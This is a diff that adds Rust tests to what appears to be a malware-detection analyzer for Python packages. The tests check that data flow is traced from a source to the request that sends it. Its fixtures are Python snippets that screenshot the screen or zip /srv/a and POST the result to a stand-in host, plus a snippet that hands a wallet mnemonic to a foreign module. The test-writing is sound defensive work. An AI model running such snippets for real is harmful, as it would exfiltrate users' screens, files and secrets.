@@ -119,3 +119,26 @@ setup(name='pkg')
     let started = events.iter().find(|e| &*e.name == "os.system");
     assert_eq!(started.map(|e| e.trigger), Some(Trigger::Install));
 }
+
+#[test]
+fn a_buffer_holds_what_is_saved_to_it_and_what_an_archive_on_it_packs() {
+    for source in [
+        "import io, pyautogui, requests\nb = io.BytesIO()\npyautogui.screenshot().save(b, 'PNG')\nrequests.post('https://a.example/', data=b.getvalue())",
+        "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/srv/a')\nz.close()\nrequests.post('https://a.example/', data=b.getvalue())",
+    ] {
+        let events = events_of(source);
+        let sent = events.iter().find(|e| &*e.name == "requests.post").expect("a request is sent");
+        let data = sent.argument(Role::Data).expect("the request has data");
+        let made = ["pyautogui.screenshot", "zipfile.ZipFile().write"];
+        let carried =
+            |name: &str| events.iter().any(|e| &*e.name == name && data.origins.events.contains(&e.id));
+        assert!(made.iter().any(|name| carried(name)), "{source}: {data:?}");
+    }
+}
+
+#[test]
+fn a_secret_that_a_foreign_function_takes_for_nothing_is_an_event() {
+    let source = "import zz_words\ndef a(mnemonic):\n    zz_words.decode(mnemonic)\ndef b(mnemonic):\n    return zz_words.encode(mnemonic)\n";
+    let names: Vec<String> = events_of(source).iter().map(|e| e.name.to_string()).collect();
+    assert_eq!(names, ["zz_words.decode"]);
+}
